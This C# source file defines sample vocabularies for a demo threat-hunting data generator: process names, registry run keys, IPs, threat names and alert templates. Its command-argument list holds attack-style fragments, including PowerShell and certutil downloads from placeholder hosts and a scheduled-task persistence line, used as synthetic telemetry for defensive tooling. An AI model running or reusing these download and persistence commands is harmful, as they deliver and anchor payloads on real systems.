namespace DefenderApi.Hunting.Data;

/// <summary>The vocabularies the demo generator draws from: plausible binaries, paths, keys and addresses.</summary>
internal static class DemoCatalog
{
    public static readonly string[] WindowsProcesses =
        ["powershell.exe", "cmd.exe", "csc.exe", "conhost.exe", "svchost.exe", "chrome.exe", "explorer.exe", "rundll32.exe", "reg.exe",
         "net.exe", "whoami.exe", "certutil.exe", "msedge.exe", "schtasks.exe", "wmic.exe", "mshta.exe", "notepad.exe", "outlook.exe"];

    public static readonly string[] UnixProcesses = ["bash", "curl", "python3", "sshd", "sudo", "wget", "crontab", "systemd"];

    public static readonly string[] WindowsParents = ["explorer.exe", "cmd.exe", "powershell.exe", "services.exe", "outlook.exe", "winword.exe", "svchost.exe"];

    public static readonly string[] UnixParents = ["bash", "sshd", "systemd", "cron"];

    public static readonly string[] CommandArguments =
        ["", " -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\Public\\AppData\\run.ps1", " /c whoami /all", " -EncodedCommand SQBFAFgA",
         " Invoke-WebRequest -Uri http://malicious.example/payload", " /create /tn Updater /tr C:\\ProgramData\\upd.exe", " --version",
         " C:\\Users\\alice\\AppData\\Local\\Temp\\setup.dll,Start", " -urlcache -split -f http://files.example/tool.exe"];

    public static readonly string[] FileNames =
        ["invoice.docx", "payload.ps1", "report.xlsx", "setup.exe", "readme.txt", "tool.exe", "backup.zip", "run.ps1", "photo.jpg", "notes.pdf"];

    public static readonly string[] Dlls = ["kernel32.dll", "ntdll.dll", "amsi.dll", "clr.dll", "wininet.dll", "vaultcli.dll", "samlib.dll"];

    public static readonly string[] RegistryKeys =
        [@"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", @"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\RunOnce",
         @"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Updater", @"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender"];

    public static readonly string[] RemoteUrls = ["www.microsoft.com", "login.microsoftonline.com", "malicious.example", "files.example", "github.com", ""];

    public static readonly string[] RemoteIps = ["13.107.4.52", "20.190.160.1", "185.220.101.4", "10.0.0.15", "192.168.1.20", "8.8.8.8", "45.33.32.156"];

    public static readonly int[] RemotePorts = [80, 443, 445, 3389, 22, 53, 8080];

    public static readonly string[] DeviceEventTypes =
        ["AntivirusDetection", "PowerShellCommand", "UsbDriveMounted", "ExploitGuardNetworkProtectionBlocked", "AsrLsassCredentialTheftAudited", "ScheduledTaskCreated"];

    public static readonly string[] PowerShellCommands = ["Get-Process", "Invoke-Mimikatz", "Set-MpPreference", "Get-ChildItem", "Invoke-WebRequest"];

    public static readonly string[] ThreatNames = ["Trojan:Win32/Wacatac", "HackTool:Win32/Mimikatz", "Ransom:Win32/Conti"];

    public static readonly (string Title, string Category, string Severity)[] AlertTemplates =
        [("Suspicious PowerShell command line", "Execution", "Medium"), ("Mimikatz credential theft tool", "CredentialAccess", "High"),
         ("Ransomware behavior detected", "Ransomware", "High"), ("Suspicious scheduled task", "Persistence", "Low")];
}
